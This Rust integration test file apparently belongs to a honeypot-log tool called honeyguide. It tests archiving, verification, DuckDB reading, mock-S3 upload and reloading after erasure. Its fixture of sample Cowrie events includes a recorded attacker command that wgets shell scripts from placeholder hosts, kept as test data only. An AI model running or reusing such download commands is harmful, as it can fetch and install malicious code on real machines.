//! Archives end to end: put away, checked, read by DuckDB, sent to an S3 server that believes signatures only, and loaded back.
mod python;
mod served;

use honeyguide::archive::s3::S3Settings;
use honeyguide::archive::{ArchiveFormat, ArchiveSettings, Stop, Target, retain};
use honeyguide::cli::context::Exit;
use honeyguide::config;
use honeyguide::daemon::DataDir;
use honeyguide::events::time;
use honeyguide::store::{RetentionPlan, Store};
use honeyguide::telemetry::Telemetry;
use serde_json::{Value, json};
use served::{Daemon, Home, log, until};
use std::io::{BufRead, BufReader, Read};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

const SEGMENTS: &str = "[journal]\nsegment_bytes = \"1 MiB\"\n";

/// Lines that a reader of tables could stumble over.
const ODD: &[&str] = &[
    r#"{"eventid":"cowrie.login.failed","username":"a\u0000b","password":"\"q\" 🐝 \ud83d","session":"0dd000000001","sensor":"odd","src_ip":"203.0.113.9","timestamp":"2026-01-01T00:00:00.000001Z"}"#,
    r#"{"eventid":"cowrie.command.input","input":"wget http://203.0.113.5/x.sh; wget http://203.0.113.6/y.sh; wget http://203.0.113.5/x.sh","session":"0dd000000001","sensor":"odd","src_ip":"203.0.113.9","timestamp":"2026-01-01T00:00:00.000002Z"}"#,
    r#"{"eventid":"cowrie.direct-tcpip.request","dst_ip":"203.0.113.7","dst_port":25,"session":"0dd000000001","sensor":"odd","src_ip":"203.0.113.9","timestamp":"2026-01-01T00:00:00.000003Z"}"#,
];

fn loaded(more: &str, events: usize) -> Home {
    let home = Home::with(&format!("{SEGMENTS}{more}"));
    let mut lines = log(7, events);
    ODD.iter().for_each(|line| lines.extend(format!("{line}\n").into_bytes()));
    let file = home.write("cowrie.json", &lines);
    home.expect(Exit::Done, &["load", file.to_str().expect("UTF-8")]);
    home
}

fn files(dir: &Path, extension: &str) -> Vec<PathBuf> {
    let entries = std::fs::read_dir(dir).expect("there").map(|entry| entry.expect("read").path());
    let mut files: Vec<PathBuf> = entries.filter(|path| path.extension().is_some_and(|found| found == extension)).collect();
    files.sort();
    files
}

#[test]
fn what_is_archived_proves_itself_and_is_loaded_back_as_the_same_events() {
    let home = loaded("", 12_000);
    let out = home.path("out");
    std::fs::create_dir(&out).expect("made");
    let to = out.to_str().expect("UTF-8");
    let done = home.json(Exit::Done, &["archive", "--to", to, "--format", "segment,parquet"]);
    let segments = done["archived"].as_u64().expect("a number");
    assert!(segments > 2 && done["files"] == 2 * segments, "{done}");
    let again = home.json(Exit::Done, &["archive", "--to", to, "--format", "segment,parquet"]);
    assert_eq!((&again["files"], &again["there_before"]), (&json!(0), &json!(segments)));
    let checked = home.json(Exit::Done, &["archive", "verify", to]);
    assert_eq!((&checked["segments"], &checked["files"], &checked["damage"]), (&json!(segments), &json!(2 * segments), &json!([])));

    // Into a fresh directory: as many events, and their lines, from which their ids are made.
    let archived = files(&out, "zst");
    let fresh = Home::new();
    let mut words = vec!["load"];
    words.extend(archived.iter().map(|path| path.to_str().expect("UTF-8")));
    fresh.expect(Exit::Done, &words);
    let mut there: Vec<String> = Vec::new();
    for path in &archived {
        let decoder = zstd::Decoder::new(std::fs::File::open(path).expect("there")).expect("zstd");
        there.extend(BufReader::new(decoder).lines().map(|line| line.expect("UTF-8")));
    }
    let mut loaded: Vec<String> =
        fresh.expect(Exit::Done, &["search", "exists:eventid", "--raw", "--limit", "1000000"]).lines().map(str::to_owned).collect();
    there.sort();
    loaded.sort();
    assert_eq!(loaded.len() as u64, checked["events"].as_u64().expect("a number"));
    assert!(there == loaded, "the same lines");

    // Every kind of file is held to the chain.
    for extension in ["zst", "parquet"] {
        let path = &files(&out, extension)[1];
        let bytes = std::fs::read(path).expect("read");
        let mut other = bytes.clone();
        let middle = other.len() / 2;
        other[middle] ^= 4;
        std::fs::write(path, other).expect("written");
        let found = home.json(Exit::Findings, &["archive", "verify", to]);
        let name = path.file_name().expect("a name").to_str().expect("UTF-8");
        assert!(found["damage"].as_array().expect("a list").iter().any(|damage| damage["file"] == name), "{found}");
        std::fs::write(path, bytes).expect("written");
    }
    std::fs::remove_file(&archived[1]).expect("removed");
    std::fs::remove_file(&files(&out, "parquet")[1]).expect("removed");
    let gap = home.json(Exit::Done, &["archive", "verify", to]);
    assert_eq!(gap["journals"][0]["missing"], 1);
}

#[test]
fn a_place_that_is_none_is_told_before_anything_is_done() {
    let home = loaded("", 10);
    for (to, expected) in [
        (home.data().join("x").to_str().expect("UTF-8").to_owned(), "inside the data directory"),
        ("s3://pots".to_owned(), "S3 needs `access_key_file`"),
    ] {
        let error = home.fails(&["archive", "--to", &to]).to_string();
        assert!(error.contains(expected), "{error}");
    }
    assert!(home.fails(&["archive"]).to_string().contains("archive where?"));

    // However the data directory is written.
    std::fs::create_dir(home.path("out")).expect("made");
    std::os::unix::fs::symlink(home.data(), home.path("link")).expect("made");
    let daemon = Daemon::start(&home);
    for (to, expected) in [
        (home.path("out/../data/journal"), "goes up with"),
        (home.path("link"), "inside the data directory"),
        (home.path("link/journal/new"), "inside the data directory"),
    ] {
        let to = to.to_str().expect("UTF-8");
        let error = home.fails(&["archive", "--to", to]).to_string();
        assert!(error.contains(expected), "{error}");
        let answer = daemon.post("/api/v1/archive", &json!({ "to": to }).to_string()).text();
        assert!(answer.contains(expected), "{answer}");
        let table = home.write("other.toml", format!("data_dir = \"data\"\n[archive]\nto = \"{to}\"\n").as_bytes());
        if let Ok(settings) = config::load(Some(&table), None) {
            // A path of the configuration is made straight before.
            panic!("{to}: {:?}", settings.archive.to);
        }
    }
}

#[test]
fn a_table_left_by_a_killed_process_goes_when_the_directory_is_opened_and_tables_are_nobody_elses() {
    use std::os::unix::fs::PermissionsExt;
    let home = loaded("", 100);
    let left = home.write("data/archive/scratch.parquet", b"in clear");
    home.expect(Exit::Done, &["verify"]);
    assert!(!left.exists());
    let written = |name: &str| (home.path(name), home.path(name).to_str().expect("UTF-8").to_owned());
    let (table, to_table) = written("table.parquet");
    let (indicators, to_indicators) = written("indicators.csv");
    let (report, to_report) = written("report.html");
    std::fs::write(&table, "readable by everybody").expect("written");
    home.expect(Exit::Done, &["search", "exists:eventid", "--format", "parquet", "--out", &to_table]);
    home.expect(Exit::Done, &["indicators", "export", "--format", "csv", "--out", &to_indicators]);
    home.expect(Exit::Done, &["report", "range", "2026-01-01..2026-01-02", "--format", "html", "--out", &to_report]);
    for path in [table, indicators, report] {
        let mode = std::fs::metadata(&path).expect("there").permissions().mode();
        assert_eq!(mode & 0o027, 0, "{} has {mode:o}", path.display());
    }
}

#[test]
fn a_daemon_archives_before_it_removes_and_says_why_it_does_not() {
    // The events are of long ago.
    let more = "evidence_days = 1\n[archive]\nto = \"out\"\nformats = [\"segment\", \"parquet\"]\n";
    let home = loaded(more, 12_000);
    let daemon = Daemon::start(&home);
    until("the missing directory is told", || home.json(Exit::Done, &["status"])["archive"]["problem"].is_string());
    let status = home.json(Exit::Done, &["status"]);
    let problem = status["archive"]["problem"].as_str().expect("told");
    assert!(problem.contains("make the directory"), "{problem}");
    assert!(status["journal"]["segments"].as_u64() > Some(2), "nothing is removed");
    let metrics = daemon.get("/metrics").text();
    assert!(metrics.lines().any(|line| line.starts_with("honeyguide_archive_failures_total ") && !line.ends_with(" 0")), "{metrics}");
    // Through the daemon: a table of what matches, and the archive on demand.
    std::fs::create_dir(home.path("out")).expect("made");
    let table = home.path("odd.parquet");
    home.expect(Exit::Done, &["search", "sensor:odd", "--format", "parquet", "--out", table.to_str().expect("UTF-8")]);
    assert!(std::fs::read(&table).expect("there").ends_with(b"PAR1"));
    let done = home.json(Exit::Done, &["archive"]);
    assert!(done["archived"].as_u64() > Some(2), "{done}");
    drop(daemon);
    // Begun again it does not wait for its backoff.
    let _daemon = Daemon::start(&home);
    let last = done["archived"].as_u64().expect("a number");
    until("retention removed what is archived", || home.json(Exit::Done, &["status"])["archive"]["segments"].as_u64() >= Some(last));
    assert_eq!(files(&home.data().join("journal"), "zst").len(), 1, "but the one that is written");
    home.expect(Exit::Done, &["archive", "verify", home.path("out").to_str().expect("UTF-8")]);
}

const DUCKDB: &str = r#"
import json, sys, duckdb
given = json.load(open(sys.argv[1]))
db = duckdb.connect()
def rows(query):
    return db.execute(query).fetchall()
table = given["table"]
found = rows(f"SELECT count(*), min(epoch_us(time)), max(epoch_us(time)) FROM '{table}'")[0]
assert list(found) == given["total"], (found, given["total"])
for field, top in given["top"].items():
    found = rows(f"SELECT {field}, count(*) FROM '{table}' WHERE {field} IS NOT NULL GROUP BY ALL")
    assert {str(value): count for value, count in found} == dict(top), field
for field, top in given["lists"].items():
    found = rows(f"SELECT value, count(*) FROM (SELECT unnest({field}) AS value FROM '{table}') GROUP BY ALL")
    assert dict(found) == dict(top) and top, field
odd = rows(f"SELECT username, password, line, url, dst_port FROM '{table}' WHERE sensor = 'odd' ORDER BY seq")
assert [row[2] for row in odd] == given["odd"], odd
assert odd[0][:2] == ("a\0b", '"q" \U0001f41d \ufffd'), odd[0]
assert odd[1][3] == ["http://203.0.113.5/x.sh", "http://203.0.113.6/y.sh"] and odd[0][3] is None, odd[1]
assert odd[2][4] == 25, odd[2]
assert rows(f"SELECT count(*) FROM '{table}' WHERE line_raw IS NOT NULL OR length(id) <> 32")[0][0] == 0
keys = dict(rows(f"SELECT decode(key), decode(value) FROM parquet_kv_metadata('{table}')"))
assert keys["honeyguide.schema"] == "1", keys
without = rows(f"SELECT count(*) FROM parquet_metadata('{table}') WHERE path_in_schema IN ('time', 'seq', 'eventid') AND stats_min_value IS NULL")
assert without[0][0] == 0, "row groups can be passed over by time"
archive = given["archive"]
assert rows(f"SELECT count(*), count(DISTINCT id), count(DISTINCT seq) FROM '{archive}'")[0] == (given["archived"],) * 3
for query in given["queries"]:
    assert rows(query), query
"#;

#[test]
fn duckdb_reads_the_tables_and_counts_as_honeyguide_does() {
    let python = match python::with("archive-duckdb", &["duckdb>=1.1,<2"], "import duckdb") {
        Ok(python) => python,
        Err(why) => return println!("SKIPPED: duckdb_reads_the_tables_and_counts_as_honeyguide_does: {why}"),
    };
    let home = loaded("", 12_000);
    let (out, table) = (home.path("out"), home.path("all.parquet"));
    std::fs::create_dir(&out).expect("made");
    home.expect(Exit::Done, &["search", "exists:eventid", "--format", "parquet", "--out", table.to_str().expect("UTF-8")]);
    let first = std::fs::read(&table).expect("there");
    home.expect(Exit::Done, &["search", "exists:eventid", "--format", "parquet", "--output", table.to_str().expect("UTF-8")]);
    assert!(first == std::fs::read(&table).expect("there"), "the same events give the same bytes");
    home.expect(Exit::Done, &["archive", "--to", out.to_str().expect("UTF-8"), "--format", "parquet"]);
    let checked = home.json(Exit::Done, &["archive", "verify", out.to_str().expect("UTF-8")]);
    let top = |field: &str| -> Value {
        let rows = home.json(Exit::Done, &["top", field, "--limit", "100000"]);
        rows.as_array().expect("a list").iter().map(|row| json!([row["value"], row["count"]])).collect()
    };
    let status = home.json(Exit::Done, &["status"]);
    let micros = |name: &str| time::parse(status["journal"][name].as_str().expect("a time").as_bytes()).expect("a time");
    let queries = documented();
    assert!(queries.len() >= 3);
    let glob = format!("{}/*.parquet", out.display());
    let given = json!({
        "table": table,
        "total": [status["journal"]["events"], micros("first_event"), micros("last_event")],
        "top": { "src_ip": top("src_ip"), "sensor": top("sensor"), "eventid": top("eventid"), "username": top("username"),
                 "password": top("password"), "dst_port": top("dst_port") },
        "lists": { "url": top("url") },
        "odd": ODD,
        "archive": glob,
        "archived": checked["events"],
        "queries": queries.iter().map(|query| query.replace("/mnt/archive/*.parquet", &glob)).collect::<Vec<_>>(),
    });
    let file = home.write("given.json", given.to_string().as_bytes());
    let output = Command::new(python).args(["-c", DUCKDB]).arg(file).output().expect("Python runs");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
}

/// The queries of ops/ARCHIVE.md.
fn documented() -> Vec<String> {
    let text = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/ops/ARCHIVE.md")).expect("part of the repository");
    text.split("```sql\n").skip(1).map(|rest| rest.split("```").next().expect("closed").to_owned()).collect()
}

/// An S3 server; gone when dropped.
struct S3Server(Child);

impl S3Server {
    /// `None`: the port is another's by now.
    fn start(python: &Path, port: u16, bucket: &str) -> S3Server {
        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/python/s3_server.py");
        let mut command = Command::new(python);
        command.arg(script).args([&port.to_string(), "the-access-key", "the-secret-key", bucket]);
        let mut child = command.stdout(Stdio::piped()).stderr(Stdio::null()).spawn().expect("Python runs");
        let mut line = String::new();
        BufReader::new(child.stdout.take().expect("piped")).read_line(&mut line).expect("read");
        assert_eq!(line.trim(), "ready");
        S3Server(child)
    }
}

impl Drop for S3Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn open(home: &Home) -> (DataDir, Store) {
    let settings = config::load(Some(&home.config()), None).expect("valid");
    let opened = DataDir::open(&settings, &Telemetry::unlogged(), &mut |_| {}).expect("opened");
    let store = opened.parts.store.clone();
    (opened, store)
}

#[test]
fn s3_gets_every_segment_before_it_goes_whatever_happens_to_the_server() {
    let python = match python::with("archive-s3", &["moto[server]>=5,<6"], "import moto.server") {
        Ok(python) => python,
        Err(why) => return println!("SKIPPED: s3_gets_every_segment_before_it_goes_whatever_happens_to_the_server: {why}"),
    };
    let home = loaded("", 12_000);
    let port = std::net::TcpListener::bind("127.0.0.1:0").expect("a port").local_addr().expect("bound").port();
    home.write("access", b"the-access-key\n");
    let secret = home.write("secret", b"the-secret-key\n");
    let s3 = S3Settings {
        bucket: "pots".into(),
        prefix: "site-a/2026".into(),
        endpoint: format!("http://127.0.0.1:{port}").parse().expect("a URL"),
        region: "us-east-1".into(),
        path_style: true,
        access_key_file: home.path("access"),
        secret_key_file: secret.clone(),
        timeout: Duration::from_secs(60),
        ca_file: None,
        allow_private: vec!["127.0.0.1".parse().expect("an address")],
    };
    let settings = |s3: &S3Settings| ArchiveSettings { to: Target::S3(Box::new(s3.clone())), formats: ArchiveFormat::ALL.to_vec() };
    let plan = RetentionPlan { evidence_days: Some(1), ..RetentionPlan::default() };
    let (_opened, store) = open(&home);
    let sealed = store.view().sealed.len();
    let go = |s3: &S3Settings| retain(&store, plan, time::now(), Some(&settings(s3)), &Stop::default()).expect("the journal is in order");
    let refused = |s3: &S3Settings, expected: &str| {
        let retained = go(s3);
        let error = retained.failed.expect("it cannot work").to_string();
        assert!(error.contains(expected) && !error.contains("the-secret-key"), "{error}");
        assert!(retained.removed.is_empty() && store.view().sealed.iter().all(|sealed| sealed.file.is_some()), "nothing is removed");
    };
    refused(&s3, "cannot connect to 127.0.0.1");
    refused(&S3Settings { allow_private: vec![], ..s3.clone() }, "list it in allow_private");
    {
        let _server = S3Server::start(&python, port, "pots");
        refused(&S3Settings { bucket: "another".into(), ..s3.clone() }, "NoSuchBucket");
        std::fs::write(&secret, "another-secret\n").expect("written");
        refused(&s3, "SignatureDoesNotMatch (refused): is the key in secret_key_file right");
        std::fs::write(&secret, "the-secret-key\n").expect("written");
        std::fs::write(home.path("access"), "nobody\n").expect("written");
        refused(&s3, "InvalidAccessKeyId");
        std::fs::write(home.path("access"), "the-access-key\n").expect("written");
        // One segment goes by hand; retention finds it there.
        let one = honeyguide::archive::run::Selection { segments: Some((1, 1)), until: None };
        let done = honeyguide::archive::run::run(&store, &settings(&s3), one, &Stop::default(), &mut |_, _| {});
        assert_eq!((done.problem, done.files), (None, 2));
        let again = honeyguide::archive::run::run(&store, &settings(&s3), one, &Stop::default(), &mut |_, _| {});
        assert_eq!((again.problem, again.files, again.there_before), (None, 0, 1));
    }
    // Stopped in the midst of it all: what is not there stays here.
    refused(&s3, "cannot connect to 127.0.0.1");
    let _server = S3Server::start(&python, port, "pots");
    let retained = go(&s3);
    assert!(retained.failed.is_none(), "{:?}", retained.failed);
    assert_eq!((retained.archived.len(), retained.removed.len()), (sealed, sealed));
    assert!(store.view().sealed.iter().all(|sealed| sealed.file.is_none()));
    for file in retained.archived.iter().flat_map(|archived| &archived.files) {
        let mut bytes = Vec::new();
        fetch(port, &format!("/pots/site-a/2026/{}", file.name)).read_to_end(&mut bytes).expect("read");
        assert_eq!(blake3::hash(&bytes).to_hex().as_str(), file.blake3, "{}", file.name);
    }
}

/// The object itself, by a signature of the test's own.
fn fetch(port: u16, path: &str) -> impl Read {
    use rusty_s3::{Bucket, Credentials, S3Action, UrlStyle};
    let endpoint = format!("http://127.0.0.1:{port}").parse().expect("a URL");
    let bucket = Bucket::new(endpoint, UrlStyle::Path, "pots", "us-east-1").expect("a bucket");
    let key = path.strip_prefix("/pots/").expect("in the bucket");
    let credentials = Credentials::new("the-access-key", "the-secret-key");
    let url = bucket.get_object(Some(&credentials), key).sign(Duration::from_secs(60));
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime");
    let bytes = runtime.block_on(async {
        let client = reqwest::Client::builder().no_proxy().build().expect("a client");
        let answer = client.get(url).send().await.expect("an answer");
        assert!(answer.status().is_success(), "{}", answer.status());
        answer.bytes().await.expect("a body")
    });
    std::io::Cursor::new(bytes.to_vec())
}

/// A format of which one line more or less has another id than its own hash.
const BY_PLACE: &str = "[[format]]\nname = \"doors\"\nidentity = \"position\"\ntime = \"at\"\nsession = \"knock\"\neventid = \"{kind}\"\n";
const REDACTED: &str = "[privacy]\nkey_file = \"key\"\n[[redact]]\nfields = [\"password\"]\naction = \"hash\"\n";

/// Loads files; answers how many events were new and how many there already.
fn load(home: &Home, exit: Exit, words: &[&str], files: &[PathBuf]) -> (u64, u64) {
    let files = files.iter().map(|path| path.to_str().expect("UTF-8"));
    let words: Vec<&str> = ["load"].iter().chain(words).copied().chain(files).collect();
    let done = home.json(exit, &words);
    (done["events"].as_u64().expect("a number"), done["duplicates"].as_u64().expect("a number"))
}

fn found(home: &Home, query: &str) -> usize {
    home.expect(Exit::Done, &["search", query, "--raw", "--limit", "1000000"]).lines().count()
}

#[test]
fn archived_segments_are_loaded_with_their_ids_and_what_was_erased_stays_erased() {
    let knocks: String = (0..12_000)
        .map(|n| {
            format!(
                "{{\"kind\":\"knock\",\"at\":\"2026-01-{:02}T00:00:00Z\",\"knock\":\"k{:011}\",\"pad\":\"{}\"}}\n",
                1 + n / 500,
                n / 7,
                "x".repeat(180)
            )
        })
        .collect();
    let knocks = knocks.into_bytes();
    let logs = log(7, 12_000);
    for (name, more, words, bytes) in [
        ("lines", "", &[][..], &logs),
        ("redacted with a key", REDACTED, &[][..], &logs),
        ("told apart by their place", BY_PLACE, &["--format", "doors"][..], &knocks),
        ("redacted, by their place", &format!("{BY_PLACE}{REDACTED}"), &["--format", "doors"][..], &knocks),
    ] {
        let at_home = || {
            let home = Home::with(&format!("{SEGMENTS}{more}"));
            home.write("key", "ab".repeat(32).as_bytes());
            home
        };
        let home = at_home();
        let file = home.write("pot.json", bytes);
        assert_eq!(load(&home, Exit::Done, words, std::slice::from_ref(&file)).0, 12_000, "{name}");
        let archive = |home: &Home, to: &str| {
            let out = home.path(to);
            std::fs::create_dir(&out).expect("made");
            home.json(Exit::Done, &["archive", "--to", out.to_str().expect("UTF-8")]);
            let events = home.json(Exit::Done, &["archive", "verify", out.to_str().expect("UTF-8")])["events"].as_u64().expect("a number");
            (files(&out, "zst"), events)
        };
        let (before, events) = archive(&home, "before");
        assert!(before.len() > 1 && events > 4_000, "{name}");
        // Into the journal it is of, it is nothing new.
        assert_eq!(load(&home, Exit::Done, &[], &before), (0, events), "{name}");

        let decoder = zstd::Decoder::new(std::fs::File::open(&before[0]).expect("there")).expect("zstd");
        let lines = BufReader::new(decoder).lines().map(|line| serde_json::from_str::<Value>(&line.expect("UTF-8")).expect("JSON"));
        let member = if words.is_empty() { "session" } else { "knock" };
        let session = lines.filter_map(|line| line[member].as_str().filter(|id| !id.is_empty()).map(str::to_owned)).next().expect("one");
        let query = format!("session:{session}");
        let erased = home.json(Exit::Done, &["erase", "--session", &session, "--yes"])["events"].as_u64().expect("a number");
        assert!(erased > 0 && found(&home, &query) == 0);
        // What was archived before brings nothing back.
        assert_eq!(load(&home, Exit::Done, &[], &before), (0, events), "{name}");
        assert_eq!(found(&home, &query), 0, "{name}");

        // Elsewhere, tombstones are tombstones, and keep out what they stand for.
        let (after, all) = archive(&home, "after");
        assert!(all >= events, "{name}: to erase ends the segment that is written");
        let fresh = at_home();
        assert_eq!(load(&fresh, Exit::Done, &[], &after), (all, 0), "{name}");
        let verified = |fresh: &Home| {
            let report = fresh.json(Exit::Done, &["verify"]);
            assert_eq!(report["damage"], json!([]), "{name}: {report}");
            (report["tombstones"].as_u64().expect("a number"), report["events"].as_u64().expect("a number"))
        };
        assert_eq!(verified(&fresh), (erased, all), "{name}");
        assert_eq!(load(&fresh, Exit::Done, &[], &after), (0, all), "{name}: again it is all known");
        assert_eq!(load(&fresh, Exit::Done, &[], &before), (0, events), "{name}: what is erased does not come by another way");
        if words.is_empty() {
            // By their place they would be others: at another path.
            assert_eq!(load(&fresh, Exit::Done, &[], &[file]), (12_000 - all, all), "{name}");
        }
        fresh.expect(Exit::Done, &["rebuild"]);
        assert_eq!((found(&fresh, &query), verified(&fresh).0), (0, erased), "{name}");
    }
}
